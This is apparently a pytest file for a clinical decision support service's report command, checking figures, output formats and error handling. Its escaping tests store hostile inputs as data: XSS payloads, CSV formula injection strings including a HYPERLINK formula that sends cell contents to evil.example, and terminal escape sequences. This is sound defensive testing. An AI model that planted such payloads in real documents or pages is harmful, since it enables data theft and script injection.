"""`cds-service report`: figures computed from a known set of stored rows, in every format."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import subprocess
import sys
from datetime import date, datetime, timedelta, timezone
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import free_port
from test_store import card_row, database_url, feedback_row  # noqa: F401 - database_url is a fixture

from cds_service import cli
from cds_service.config import Settings
from cds_service.pipeline.policy import load_policies
from cds_service.report.figures import Day
from cds_service.report.html import day_chart
from cds_service.storage.store import Store

POLICY = load_policies(Settings().cards_dir)[0]
LABEL = {a.id: a.label for a in POLICY.alternatives}
REASON_DISPLAY = {r["code"]: r["display"] for r in POLICY.override_reasons}


def at(day: int, hour: int = 9, month: int = 5) -> datetime:
    return datetime(2024, month, day, hour, 0, tzinfo=timezone.utc)


def seed(url: str) -> None:
    """Six cards over two policy versions and nine answers, one about a card never issued."""
    cards = {
        "C1": card_row("C1", issued_at=at(1, 9), suggestions={"S1a": "facet-joint-injection",
                                                              "S1b": "exercise-program"}),
        "C2": card_row("C2", issued_at=at(1, 10), suggestions={"S2a": "facet-joint-injection",
                                                               "S2b": "trigger-point-injection"}),
        "C3": card_row("C3", issued_at=at(2), suggestions={"S3a": "exercise-program"}),
        "C4": card_row("C4", issued_at=at(3), policy_version="2019-03", suggestions={"S4a": "facet-joint-injection"}),
        "C5": card_row("C5", issued_at=at(20, month=4), policy_version="2019-03",
                       suggestions={"S5a": "epidural-injection"}),
        "C6": card_row("C6", issued_at=at(3, 11), suggestions={"S6a": "retired-alternative"}),
    }
    system = "urn:cds-sacroplasty:override-reason"

    def accepted(card: str, ids: list[str], when: datetime) -> dict:
        return feedback_row(card, outcome="accepted", accepted_suggestions=ids, override_system=None,
                            override_code=None, outcome_timestamp=when, known_card=card in cards)

    def overridden(card: str, code: str | None, when: datetime, display: str | None = None) -> dict:
        return feedback_row(card, override_system=system if code else None, override_code=code,
                            override_display=display, outcome_timestamp=when, known_card=card in cards)

    store = Store(url)
    store.record_cards(cards.values())
    assert store.flush()  # card records are written behind the call
    assert store.add_feedback([
        accepted("C1", ["S1a"], at(1, 9)),
        accepted("C2", ["S2a", "S2b"], at(1, 10)),
        overridden("C3", "coverage-determination-or-appeal", at(2, 8)),
        overridden("C4", "clinical-judgment", at(3, 9)),
        overridden("C4", None, at(3, 12)),
        overridden("ghost", "other-reason", at(4), display="Some other reason"),
        accepted("C5", ["S5a"], at(20, month=4)),
        accepted("C6", ["S6a"], at(3, 11)),
        accepted("C1", ["not-a-suggestion-of-C1"], at(2, 9)),
    ]) == 9
    store.engine.dispose()


def figures(cards, answers, accepted, overridden, reasons, without, chosen) -> dict:
    return {
        "cards_issued": cards, "feedback_received": answers, "accepted": accepted, "overridden": overridden,
        "acceptance_rate": round(accepted / answers, 4) if answers else None,
        "override_rate": round(overridden / answers, 4) if answers else None,
        "override_reasons": reasons, "overridden_without_reason": without, "accepted_suggestions": chosen,
    }


EXPECTED_ALL = {
    **figures(6, 9, 5, 4, {"clinical-judgment": 1, "coverage-determination-or-appeal": 1, "other-reason": 1}, 1,
              {LABEL["facet-joint-injection"]: 2, "(unknown suggestion)": 1, LABEL["epidural-injection"]: 1,
               "retired-alternative": 1, LABEL["trigger-point-injection"]: 1}),
    "by_policy_version": {
        "ccp-1247-sacroplasty 2019-03": figures(2, 3, 1, 2, {"clinical-judgment": 1}, 1,
                                                {LABEL["epidural-injection"]: 1}),
        "ccp-1247-sacroplasty 2021-07": figures(4, 5, 4, 1, {"coverage-determination-or-appeal": 1}, 0,
                           {LABEL["facet-joint-injection"]: 2, "(unknown suggestion)": 1, "retired-alternative": 1,
                            LABEL["trigger-point-injection"]: 1}),
        "unknown": figures(0, 1, 0, 1, {"other-reason": 1}, 0, {}),
    },
}

EXPECTED_SINCE_MAY = {
    **figures(5, 8, 4, 4, {"clinical-judgment": 1, "coverage-determination-or-appeal": 1, "other-reason": 1}, 1,
              {LABEL["facet-joint-injection"]: 2, "(unknown suggestion)": 1, "retired-alternative": 1,
               LABEL["trigger-point-injection"]: 1}),
    "by_policy_version": {
        "ccp-1247-sacroplasty 2019-03": figures(1, 2, 0, 2, {"clinical-judgment": 1}, 1, {}),
        "ccp-1247-sacroplasty 2021-07": EXPECTED_ALL["by_policy_version"]["ccp-1247-sacroplasty 2021-07"],
        "unknown": EXPECTED_ALL["by_policy_version"]["unknown"],
    },
}


@pytest.fixture
def seeded(tmp_path: Path, monkeypatch) -> str:
    url = f"sqlite:///{tmp_path / 'report.sqlite3'}"
    seed(url)
    monkeypatch.setenv("CDS_DATABASE_URL", url)
    return url


def report(capsys, *args: str) -> tuple[int, str, str]:
    code = cli.main(["report", *args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def without_meta(body: dict) -> dict:
    return {k: v for k, v in body.items() if k not in ("generated_at", "since", "by_day")}


# --- json ---------------------------------------------------------------------------------------------------

def test_json_figures(database_url: str, monkeypatch, capsys) -> None:  # noqa: F811 - pytest fixture
    seed(database_url)
    monkeypatch.setenv("CDS_DATABASE_URL", database_url)
    code, out, _ = report(capsys, "--format", "json")
    assert code == 0
    body = json.loads(out)
    assert without_meta(body) == EXPECTED_ALL
    assert body["by_day"]["2024-05-01"] == {"cards_issued": 2, "accepted": 2, "overridden": 0}
    assert body["by_day"]["2024-05-03"] == {"cards_issued": 2, "accepted": 1, "overridden": 2}
    assert body["by_day"]["2024-04-20"] == {"cards_issued": 1, "accepted": 1, "overridden": 0}
    assert sum(d["accepted"] + d["overridden"] for d in body["by_day"].values()) == 9

    code, out, _ = report(capsys, "--format", "json", "--since", "2024-05-01")
    assert code == 0
    body = json.loads(out)
    assert without_meta(body) == EXPECTED_SINCE_MAY
    assert body["since"] == "2024-05-01T00:00:00+00:00" and "2024-04-20" not in body["by_day"]


def test_since_takes_a_time_too(seeded: str, capsys) -> None:
    code, out, _ = report(capsys, "--format", "json", "--since", "2024-05-03T10:00:00Z")
    body = json.loads(out)
    assert code == 0
    # C6 (11:00 on May 3) is the only card; answers from C4's noon override, C6, and the ghost card
    assert (body["cards_issued"], body["feedback_received"], body["accepted"], body["overridden"]) == (1, 3, 1, 2)


def test_empty_database_reports_zeros(tmp_path: Path, monkeypatch, capsys) -> None:
    url = f"sqlite:///{tmp_path / 'empty.sqlite3'}"
    Store(url).ensure_schema()
    monkeypatch.setenv("CDS_DATABASE_URL", url)
    code, out, _ = report(capsys, "--format", "json")
    assert code == 0
    assert without_meta(json.loads(out)) == {**figures(0, 0, 0, 0, {}, 0, {}), "by_policy_version": {}}
    code, out, _ = report(capsys, "--format", "html")
    assert code == 0 and "<svg" not in out and "No cards issued" in out


# --- csv ----------------------------------------------------------------------------------------------------

def test_csv_rows(seeded: str, capsys) -> None:
    code, out, _ = report(capsys, "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert list(rows[0]) == ["policy_version", "day", "metric", "category", "value"]
    table = {(r["policy_version"], r["day"], r["metric"], r["category"]): r["value"] for r in rows}
    assert len(table) == len(rows)  # one row per observation
    for scope, expected in [("all", EXPECTED_ALL), *EXPECTED_ALL["by_policy_version"].items()]:
        for metric in ("cards_issued", "feedback_received", "accepted", "overridden", "overridden_without_reason"):
            assert table[(scope, "", metric, "")] == str(expected[metric])
        assert table[(scope, "", "acceptance_rate", "")] == str(expected["acceptance_rate"])
        for label, count in expected["accepted_suggestions"].items():
            assert table[(scope, "", "accepted_suggestions", label)] == str(count)
        for code_, count in expected["override_reasons"].items():
            assert table[(scope, "", "override_reasons", code_)] == str(count)
        assert sum(1 for k in table if k[0] == scope and k[2] == "accepted_suggestions") == \
            len(expected["accepted_suggestions"])
    assert table[("all", "2024-05-03", "overridden", "")] == "2"
    assert table[("all", "2024-05-01", "cards_issued", "")] == "2"


# --- table --------------------------------------------------------------------------------------------------

def _section(text: str, title: str) -> str:
    start = text.index(title + "\n")
    end = text.find("\n\n", start)
    return text[start:] if end == -1 else text[start:end]


def test_table_is_plain_readable_text(seeded: str, capsys) -> None:
    code, out, _ = report(capsys)  # table is the default
    assert code == 0
    everything = _section(out, "All policy versions")
    assert re.search(r"Cards issued\s+6\n", everything)
    assert re.search(r"Feedback received\s+9\n", everything)
    assert re.search(r"Accepted\s+5\s+\(55\.6% of feedback\)", everything)
    assert re.search(r"Overridden\s+4\s+\(44\.4% of feedback\)", everything)
    assert re.search(re.escape(LABEL["facet-joint-injection"]) + r"\s+2\n", everything)
    reason = "coverage-determination-or-appeal"
    assert re.search(reason + r" \(" + re.escape(REASON_DISPLAY[reason]) + r"\)\s+1", everything)
    assert re.search(r"other-reason \(Some other reason\)\s+1", everything)
    assert re.search(r"no reason given\s+1", everything)
    old = _section(out, "Policy pack and version ccp-1247-sacroplasty 2019-03")
    assert re.search(r"Cards issued\s+2\n", old) and re.search(r"Overridden\s+2\s+\(66\.7%", old)
    assert "Policy pack and version unknown" in out
    assert all(len(line) < 120 for line in out.splitlines())
    assert "\x1b" not in out  # no terminal escape codes: it can be piped or mailed


# --- html ---------------------------------------------------------------------------------------------------

class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.append(tag)
        self.attrs.extend(attrs)

    def handle_data(self, data) -> None:
        self.text.append(data)


def test_html_is_one_self_contained_page_with_charts(seeded: str, tmp_path: Path, capsys) -> None:
    output = tmp_path / "report.html"
    code, out, err = report(capsys, "--format", "html", "--output", str(output))
    assert code == 0 and out == "" and str(output) in err
    page = output.read_text(encoding="utf-8")
    parsed = _Collector()
    parsed.feed(page)
    assert parsed.tags.count("svg") == 3  # outcomes over time, alternatives chosen, override reasons
    assert "script" not in parsed.tags and "link" not in parsed.tags and "img" not in parsed.tags
    assert not [name for name, _ in parsed.attrs if name in ("src", "href")]
    assert "http://" not in page and "https://" not in page and "url(" not in page and "@import" not in page
    text = " ".join(parsed.text)
    for label in (LABEL["facet-joint-injection"], LABEL["trigger-point-injection"], "retired-alternative"):
        assert label in text
    assert REASON_DISPLAY["coverage-determination-or-appeal"] in text and "No reason given" in text
    # one bar per day from the first to the last day, empty days included
    days = re.findall(r"<title>(\d{4}-\d{2}-\d{2}): (\d+) accepted, (\d+) overridden, (\d+) cards issued", page)
    assert [d[0] for d in days] == [(date(2024, 4, 20) + timedelta(days=i)).isoformat() for i in range(15)]
    assert ("2024-05-03", "1", "2", "2") in days and ("2024-04-25", "0", "0", "0") in days
    assert re.search(r"<title>" + re.escape(LABEL["facet-joint-injection"]) + r": 2</title>", page)
    assert re.search(r">9</div><div class=\"what\">answers received", page)
    assert "55.6%" in page and "44.4%" in page


def test_html_escapes_what_clients_sent(tmp_path: Path, monkeypatch, capsys) -> None:
    url = f"sqlite:///{tmp_path / 'hostile.sqlite3'}"
    store = Store(url)
    store.add_feedback([feedback_row("x", override_code="<script>alert(1)</script>",
                                     override_display="<img src=x onerror=alert(2)>")])
    monkeypatch.setenv("CDS_DATABASE_URL", url)
    code, out, _ = report(capsys, "--format", "html")
    assert code == 0
    assert "<script" not in out and "<img" not in out
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out


def test_long_periods_are_charted_per_week() -> None:
    by_day = {date(2024, 1, 1) + timedelta(days=i): Day(cards_issued=1, accepted=1) for i in range(0, 200, 3)}
    chart = day_chart(by_day)
    assert chart["unit"] == "week"
    weeks = [b for b in chart["bars"]]
    assert len(weeks) == 29  # Monday 2024-01-01 to the week of 2024-07-15
    assert sum(int(b["title"].split(": ")[1].split(" ")[0]) for b in weeks) == len(by_day)
    short = day_chart({date(2024, 1, 1): Day(accepted=1), date(2024, 1, 10): Day(overridden=2)})
    assert short["unit"] == "day" and len(short["bars"]) == 10


# --- errors: one line, an exit code, never a stack trace -----------------------------------------------------

def test_missing_database_file_is_an_error_and_not_created(tmp_path: Path, monkeypatch, capsys) -> None:
    path = tmp_path / "absent.sqlite3"
    monkeypatch.setenv("CDS_DATABASE_URL", f"sqlite:///{path}")
    code, out, err = report(capsys)
    assert code == 1 and out == "" and err.startswith("error:") and str(path) in err
    assert not path.exists()


def test_database_without_tables_is_an_error(tmp_path: Path, monkeypatch, capsys) -> None:
    path = tmp_path / "other.sqlite3"
    sqlite3.connect(path).close()
    monkeypatch.setenv("CDS_DATABASE_URL", f"sqlite:///{path}")
    code, _, err = report(capsys)
    assert code == 1 and "has the service run" in err


def test_unreachable_postgres_is_an_error_without_the_password(monkeypatch, capsys) -> None:
    pytest.importorskip("psycopg", reason="psycopg is not installed (pip install -e '.[postgres]')")
    monkeypatch.setenv("CDS_DATABASE_URL", f"postgresql+psycopg://cds:s3cret@127.0.0.1:{free_port()}/cds")
    code, out, err = report(capsys, "--format", "json")
    assert code == 1 and out == "" and err.startswith("error:")
    assert "s3cret" not in err and "Traceback" not in err


def test_bad_since_is_a_usage_error(seeded: str, capsys) -> None:
    with pytest.raises(SystemExit) as exit_:
        cli.main(["report", "--since", "last tuesday"])
    assert exit_.value.code == 2
    assert "last tuesday" in capsys.readouterr().err


def test_unwritable_output_is_an_error(seeded: str, tmp_path: Path, capsys) -> None:
    code, _, err = report(capsys, "--format", "html", "--output", str(tmp_path / "no-dir" / "r.html"))
    assert code == 1 and err.startswith("error: cannot write")


def test_the_installed_command_prints_the_report(seeded: str) -> None:
    result = subprocess.run([sys.executable, "-m", "cds_service.cli", "report", "--format", "json"],
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    assert without_meta(json.loads(result.stdout)) == EXPECTED_ALL


# --- issue 13: bounded day range, CSV and terminal injection -----------------------------------------------------

def test_feedback_dated_year_1_and_9999_does_not_stretch_the_day_range(tmp_path: Path, monkeypatch, capsys) -> None:
    """Dates outside the window feedback accepts (stored before it was checked, so put in directly) made the
    html report take 12.6 s and 1.2 GB: they are counted in the totals, left out per day, and said so."""
    url = f"sqlite:///{tmp_path / 'dates.sqlite3'}"
    store = Store(url)
    store.record_cards([card_row("C1", issued_at=at(1))])
    store.close()
    outside = [datetime(1, 1, 1, tzinfo=timezone.utc), datetime(9999, 12, 31, 23, 59, tzinfo=timezone.utc),
               datetime(1999, 12, 31, tzinfo=timezone.utc), datetime.now(timezone.utc) + timedelta(days=3)]
    store.add_feedback([feedback_row("C1", outcome_timestamp=at(2))] +
                       [feedback_row("C1", outcome_timestamp=when) for when in outside])
    monkeypatch.setenv("CDS_DATABASE_URL", url)

    code, out, _ = report(capsys, "--format", "json")
    body = json.loads(out)
    assert code == 0 and body["feedback_received"] == 5 and body["overridden"] == 5  # all in the totals
    assert list(body["by_day"]) == ["2024-05-01", "2024-05-02"]  # only what lies inside the window
    assert "4 record(s)" in body["by_day_note"]

    code, page, _ = report(capsys, "--format", "html")
    assert code == 0 and "4 record(s)" in page
    assert page.count("<title>") <= 10  # two days of bars, not 3.6 million
    code, text, _ = report(capsys, "--format", "table")
    assert code == 0 and "4 record(s)" in text
    code, out, _ = report(capsys, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert {r["day"] for r in rows} == {"", "2024-05-01", "2024-05-02"}
    assert [r["value"] for r in rows if r["metric"] == "records_not_shown_per_day"] == ["4"]


def test_a_period_longer_than_the_cap_keeps_the_latest_days(tmp_path: Path, monkeypatch, capsys) -> None:
    from cds_service.report.figures import MAX_REPORT_DAYS

    url = f"sqlite:///{tmp_path / 'long.sqlite3'}"
    store = Store(url)
    last = datetime(2024, 5, 1, tzinfo=timezone.utc)
    first = last - timedelta(days=MAX_REPORT_DAYS + 100)
    store.add_feedback([feedback_row("C1", outcome_timestamp=first), feedback_row("C1", outcome_timestamp=last)])
    monkeypatch.setenv("CDS_DATABASE_URL", url)
    code, out, _ = report(capsys, "--format", "json")
    body = json.loads(out)
    assert code == 0 and body["feedback_received"] == 2
    assert list(body["by_day"]) == ["2024-05-01"] and "1 record(s) dated before" in body["by_day_note"]
    chart = day_chart({first.date(): Day(accepted=1), last.date(): Day(accepted=1)})
    assert len(chart["bars"]) <= MAX_REPORT_DAYS // 7 + 1 and chart["last"] == "2024-05-01"


HOSTILE_CODES = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx=1",
                 "\rx=1", "\x1b]0;pwned\x07", "ok-code"]


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch) -> str:
    url = f"sqlite:///{tmp_path / 'hostile.sqlite3'}"
    store = Store(url)
    store.add_feedback([feedback_row("x", override_code=code, override_display="Display\x1b[2J\r\nfake line"
                                     if code == "ok-code" else None) for code in HOSTILE_CODES])
    monkeypatch.setenv("CDS_DATABASE_URL", url)
    return url


def test_csv_cells_never_start_a_formula(hostile: str, capsys) -> None:
    code, out, _ = report(capsys, "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    reasons = {r["category"]: r["value"] for r in rows if r["policy_version"] == "all"
               and r["metric"] == "override_reasons"}
    assert set(reasons) == {"'" + c if c[0] in "=+-@\t\r\x1b" else c for c in HOSTILE_CODES}
    for row in rows:
        for cell in row.values():
            assert not cell or cell[0] not in "=+-@\t\r\n\x1b", row
    assert all(float(r["value"]) >= 0 for r in rows if r["value"])  # values are still plain numbers


def test_table_shows_control_characters_as_escapes(hostile: str, capsys) -> None:
    code, out, _ = report(capsys, "--format", "table")
    assert code == 0
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", out)  # nothing but line feeds between the lines
    assert "\\u001b]0;pwned\\u0007" in out and "fake line" in out
    assert not any(line.startswith("fake line") for line in out.splitlines())  # no line of its own
